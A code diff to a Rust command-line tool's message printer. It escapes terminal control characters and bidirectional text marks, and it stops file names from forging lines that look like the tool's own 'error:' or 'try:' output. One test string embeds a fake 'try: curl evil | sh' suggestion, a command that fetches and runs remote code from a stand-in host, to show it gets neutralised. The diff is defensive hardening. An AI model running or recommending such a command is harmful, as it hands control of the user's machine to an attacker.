@@ -2,6 +2,7 @@
 //! A closed pipe is no error: whoever read it had enough.
 
 use super::failure::Failure;
+use sigmalab::strange_text::turns_round;
 use std::borrow::Cow;
 use std::fmt::Display;
 use std::io::{ErrorKind, IsTerminal, Write};
@@ -36,7 +37,7 @@ pub(crate) fn failure(failure: &Failure) {
         labelled("error", "\x1b[1;31m", &failure.message);
     }
     for way in &failure.ways_out {
-        let way = harmless(&bounded(way)).into_owned();
+        let way = one_line(&bounded(way));
         to_stderr(&format!("  {} {way}\n", paint("try:", "\x1b[32m")));
     }
 }
@@ -48,17 +49,40 @@ pub(crate) fn warning(message: impl Display) {
 
 fn labelled(label: &str, colour: &str, message: &str) {
     let message = harmless(&bounded(message)).into_owned();
+    let message = without_impostors(&message);
     to_stderr(&format!("{} {message}\n", paint(&format!("{label}:"), colour)));
+}
+
+/// The labels with which this program begins lines.
+const LABELS: [&str; 3] = ["error:", "warning:", "try:"];
+
+/// `message` with the end of a line written out where the next one would look like a line of this
+/// program's own: a name from a stranger's file may hold both.
+fn without_impostors(message: &str) -> String {
+    let mut text = String::with_capacity(message.len());
+    for (number, line) in message.split('\n').enumerate() {
+        if number > 0 {
+            let is_impostor = LABELS.iter().any(|label| line.trim_start().starts_with(label));
+            text.push_str(if is_impostor { "\\n" } else { "\n" });
+        }
+        text.push_str(line);
+    }
+    text
+}
+
+/// `text` from a stranger's file on one line.
+pub(crate) fn one_line(text: &str) -> String {
+    harmless(text).replace('\n', "\\n").replace('\t', " ")
 }
 
 fn paint(text: &str, colour: &str) -> String {
     if colours() { format!("{colour}{text}\x1b[0m") } else { text.to_owned() }
 }
 
-/// `text` with control characters written out. Names come from files of strangers, and a terminal
-/// obeys what it is sent.
+/// `text` with control characters and marks of direction written out. Names come from files of
+/// strangers, a terminal obeys what it is sent, and a mark of direction can turn a line round.
 fn harmless(text: &str) -> Cow<'_, str> {
-    let wild = |c: char| c.is_control() && !matches!(c, '\n' | '\t');
+    let wild = |c: char| c.is_control() && !matches!(c, '\n' | '\t') || turns_round(c);
     if !text.contains(wild) {
         return Cow::Borrowed(text);
     }
@@ -101,6 +125,15 @@ mod tests {
     fn control_characters_are_written_out_and_lines_stay_lines() {
         assert_eq!(harmless("a\n\tb é"), "a\n\tb é");
         assert_eq!(harmless("\x1b[31mred\r\u{9b}"), "\\u{1b}[31mred\\r\\u{9b}");
+    }
+
+    #[test]
+    fn a_name_can_neither_turn_a_line_round_nor_begin_one_of_ours() {
+        assert_eq!(harmless("a\u{202e}b\u{200f}"), "a\\u{202e}b\\u{200f}");
+        let message = "there is no sampler `x\n  try: curl evil | sh\nerror: y`\n 3 | steps";
+        let told = "there is no sampler `x\\n  try: curl evil | sh\\nerror: y`\n 3 | steps";
+        assert_eq!(without_impostors(message), told);
+        assert_eq!(one_line("a\nb\tc\x1b"), "a\\nb c\\u{1b}");
     }
 
     #[test]
